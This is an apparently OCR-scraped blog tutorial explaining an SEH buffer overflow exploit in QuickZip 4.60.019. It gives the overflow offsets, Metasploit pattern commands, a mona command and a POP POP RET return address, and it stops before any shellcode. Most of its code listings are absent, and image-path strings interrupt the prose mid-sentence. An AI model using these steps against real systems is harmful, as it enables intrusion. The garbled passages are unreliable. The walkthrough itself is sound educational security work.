QuickZip 4.60.019 SEH Buffer Overflow


Hey everyone! How’s it going? Today, we’re going to have some fun and discuss the QuickZip 4.60.019 structured exception handler buffer overflow, which is a very interesting multi-stage exploit. This article is inspired by the original articles and those which others have written, but the goal is to dig deeper into the details and provide a more in-depth explanation about what’s happening, what we’re doing, and why. For me, when following the work of others, I felt that at times the articles glossed over or sped through details which were critical to a full understanding of the exploit. As such, my goal is to explain those parts, and ensure that the exploit process is clear to everyone.


What we’re using

For the purpose of this demonstration and walkthrough, we’ll be using the following to complete the exploit

  • Windows XP SP3 (Victim Machine)
  • Immunity Debugger (Installed on victim machine)
  • Python 2.7.1 (Installed on victim machine, bundled with Immunity Debugger)
  • Corelan Mona.py (Installed on victim machine)
  • Quick Zip 4.60.019 (Installed on victim machine)
  • Kali Linux 2018.3 (Attacker machine)
  • Python 2.7.15 (Installed on attacker machine)
  • Metasploit Framework (tested with 4.17.16-dev)
  • VMWare Fusion Shared Folders (Installed on both machines, used to transfer the ZIP file between OS’s)
  • Black python-formatter (Attacker machine) for consistent Python formatting, no matter whatchanges we make
  • Flake8 python-linter (Attacker machine) to detect issues as soon as they occur

Flake8 Configuration

As Flake8 has specific configuration rules that don’t match Black out of the box, we’ll use the following .flake8 file in the exploit development directory to avoid line length warnings.

The Exploit

Proof of Concept

Thanks to the wonderful work of corelanc0d3r (Peter Van Eeckhoutte), we started this exploit off with the proof-of-concept exploit which was available on the Corelan and Offensive-Security resource pages. This looks like so:

Running this on Kali 2018.3 though, we see that this doesn’t work as we hope.

It seems like escape sequences that were once correct in this perl code no longer work with the current version of Perl. This results in the provided proof-of-concept exploit creating an ASCII file which is not recognized as a ZIP file. We verify this using the file command, to understand how the operating system will view the file, as even if there are issues with the file, the magic number at the start of the fileshould cause it to be properly identified as a ZIP.

Since this proof of concept, while a correct starting point, doesn’t seem to be generating a ZIP file, and perl isn’t my language of choice, let’s take this opportunity to convert this code to Python and fix the escape sequences. To do this, you need to know a few things:

  • Bytes in Python can be represented using \xFF style definitions. Where the \x is the prefix designating this as a byte, and the FF being the specific byte that should be represented.
  • Concatenation of information in Perl is done using the . operator, while concatenation of information in Python is done using the + operator
  • Variables in perl are declared (generally) using the my $variable syntax, while in python we can simply name the variable and assign it without prefixing keywords.
  • Strings in Python which are within a set of parenthesis are automatically concatenated together, removing the need for explicit + operators
  • Perl requires semicolons at the end of statements, while Python uses whitespace to denote the beginning and ends of a statement.With this piece of information, it’s clear that this should be relatively easy to update. We’ll need to take the x00 sequences and convert them to \x00 sequences, update the shebang so that it’s pointed to Python instead of Perl, fix the syntax of string concatenation, and update the file writing to use Python’s style of writing to a file. In our case, we’ll use a context manager rather than strict open and close functions, to simplify the exploit.

With these changes, we’re left with:

If we verify that this is creating a ZIP properly, we see that it is:

Nice! You’ll notice though that line 40 references a 4064 byte pattern though, so we’ll need to generate that and add it in. Also, since this file payload (not including the headers) is explicitly 4068 bytes (the filename length of 4064 bytes plus the 4 byte extension, .txt), as the file size in the headers says (\xe4\x0f in the headers is the little-endian representation of 0FE4 which is the decimal value 4068), we’ll also use this opportunity to add a check to our file contents before writing the file, so that we can warn ourselves if the file size no longer is 4068. This can help us catch errors that we make in our math early, saving time during debugging.

First, let’s generate the pattern for this variable:

/usr/share/metasploit-framework/tools/exploit/pattern_create.rb -l 4064

This will give a cyclical unique pattern which we can paste into the variable. This unique pattern will allow us to identify any individual location in the pattern, simplifying calculating offsets and locating our exploit overwrites.

With our changes, we end up with:

The key changes to note are the pattern on lines 42–99, the target_len variable (which holds the file length we’ve configured in the headers) on line 15, and the payload length check on lines 103–109.

If we generate the ZIP file now, open Immunity Debugger, attach the debugger to Quick Zip, and open the ZIP file, attempting to extract the file (the act of opening the ZIP doesn’t trigger the exploit by itself), we see:

SEH chain

The first image shows the debugger itself at the time of the crash. None of the registers appear to be overwritten with our pattern, thoughalong the bottom status line we notice that there is an exception which we can pass to the program. If we look at the structured exception handler chain, you’ll notice the bottom-most entry is kernel32. If we pass this exception to the program using Shift+F9, we can see in the last error:


This means that the last exception we saw was due to the filename of 4068 characters is too long for a Windows machine and triggered an error within the Kernel. Once we pass it to the program though, we now see (annoyingly with the Quick Zip crash window obscuring part of the debugger):

Second exception, our buffer overflow

This exception looks much more interesting to us. We now see parts of our pattern in some of the registers. We see this is also an exception, and take a look at the structured exception handler chain:

SEH chain for our exploit

Identifying The Overflow

This looks much better for us to consider exploiting. We now have a corrupted structured exception handler. Let’s take a look at the value in the structured exception handler (SE handler column of the line above the corrupt one) and the next structured exception handler (address column of the corrupt line) to see if these values are within our pattern:

root@kali:~/exploits/quickzip# /usr/share/metasploit-framework/tools/exploit/pattern_offset.rb -l 4064 -q 6B41396A
[*] Exact match at offset 298
root@kali:~/exploits/quickzip# /usr/share/metasploit-framework/tools/exploit/pattern_offset.rb -l 4064 -q 41386A41
[*] Exact match at offset 294

Nice! It looks like we have control over both the next structured exception handler (nSEH) and thestructured exception handler (SEH) values. As is common for a SEH exploit, SEH will be the value that gets put into EIP, and commonly points to a POP POP RET sequence, and nSEH is going to be the four bytes we have to jump forward or backwards.

Verifying the Overflow Offsets

First things first, though, let’s verify this and make sure we actually do have control over these. We’ll also add another verification check to ensure that our padding before the nSEH value and before the SEH value are correct, so that if we mess up math related to the offset later, we want to know that. Honestly, this may be overkill, but I’ve found it helps me catch errors if I work on a specific exploit for too long.

With our changes, we now have:

The changes that you should notice here:

  • On lines 16 and 17 we now have the offset to nSEH and SEH• On lines 44, 45, and 46 we now have the four byte values for the nSEH value (the value that overwrites the nSEH value), SEH value, and the file extension
  • Lines 48–66 build the payload, and include checks of the total payload size to both nSEH and SEH, to ensure that the offsets are correct.
  • The payload is now built with A’s until our nSEH value, nSEH should be filled with B’s, SEH should be filled with C’s, and then the remaining payload should be all D’s.

If we now restart the debugger and Quick Zip, and attempt to extract our file, passing the maximum file size exception to the program, we now see:

Successfully overwritten nSEH and SEH values!

Perfect, we now have the ability to overwrite the nSEH value and the SEH value. This means we can control EIP via the SEH value, and then should be able to execute code from our nSEH value.

Finding a POP, POP, RET

Let’s use mona to look for a value which we can jump to which does not have ASLR, SafeSEH, or other protections. Also, we want this to be part of the application, not the OS, so that our exploit will be as portable and reliable as possible. To find a list of memory addresses which we can use, we’ll use Mona’s seh command like so:

!mona seh -o

This will look for POP, POP, RET sequences that we can use for SEH exploits. The -o flag will tell Mona to ignore OS modules. With this, we get back almost 8,000 addresses:

POP POP RET addresses

Sadly, it looks like all of these start with null bytes, let’s re-run mona and see if she can find something without a null byte (-n to ignore modules with null bytes):

!mona seh -o -n

Sadly no results though. So it looks like we’re going to be stuck trying to make this work with the null byte. Luckily it’s the first byte,so when reversed for little-endian format, it should still give us a full return address.

No non-null byte return addresses

We’ll choose the following return address:

Log data, item 29
Message= 0x00435133 : pop ecx # pop ebp # ret 0x04 | startnull,asciiprint,ascii,alphanum,uppernum {PAGE_EXECUTE_READ} [QuickZip.exe] ASLR: False, Rebase: False, SafeSEH: False, OS: False, v-1.0- (C:\Program Files\QuickZip4\QuickZip.exe)

We’ll choose this one due to the attributes associated with it. First, it’s printable ascii, which since we’re putting this value in a filename seems like itwill be beneficial. There are other asciiprint return addresses, but this one looked good to me, as it’s also alphanum.

So we’ll replace our seh variable value with the address 0x00435133 in little-endian format. We’ll also include the information about what’s at that address, so that we have it for reference later. In this case, we could enter the following for the SEH variable:

seh = '\x33\x51\x43\x00'

But I’ve found that it’s prone to typos. Instead, we’ll use Python’s standard library to convert the hex for us to little endian.

You’ll notice that we’re now importing the pack function from the struct module, and packing the value into a little-endian value. You may be wonder how does <L mean little-endian. Essentially, Python says that < represents little-endian order, > represents big-endian order, and L represents a 4-byte integer. Thus, as we want to store a four byte address, the size of our SEH value, we end up using:

seh = pack("<L", 0x00435133)

With our return address in the SEH variable, let’s execute our exploit and see what happens.

Comparing the address, we see that this overwrote the return value successfully. The QuickZip. in front of the address is simply a debugger helper which tells us which module the address is located within, this can sometimes cause people new to debuggers to be a bit confused.

If we then use F2 to set a breakpoint on this return address(which in the SEH chain window will highlight that line red), and pass the exception to the program using Shift+F9, we correctly end up at a POP, POP, RET sequence:

Landed at our POP, POP, RET

Looking at the stack in the bottom right pane, we see that two DWORD’s below our current location in the stack is our B values, which we put in nSEH, so if we follow the POP, POP, RET using F7 three times, we end up landing at our B’s:

Landed at our B's

What do we do now though?

At this point though, the exploit starts to become more difficult for a few reasons:

  1. We don’t no longer have data after our SEH value
  2. It looks like we may be restricted to ASCII / filename compatible characters, which will impact our ability to JMP (EB)
  3. If we have to jump backwards, rather than forwards over SEH, in four byte’s we can probably only go 128 bytes back (80 is a -128 byte jump). But the backwards jumps are all going to be above the ASCII character range

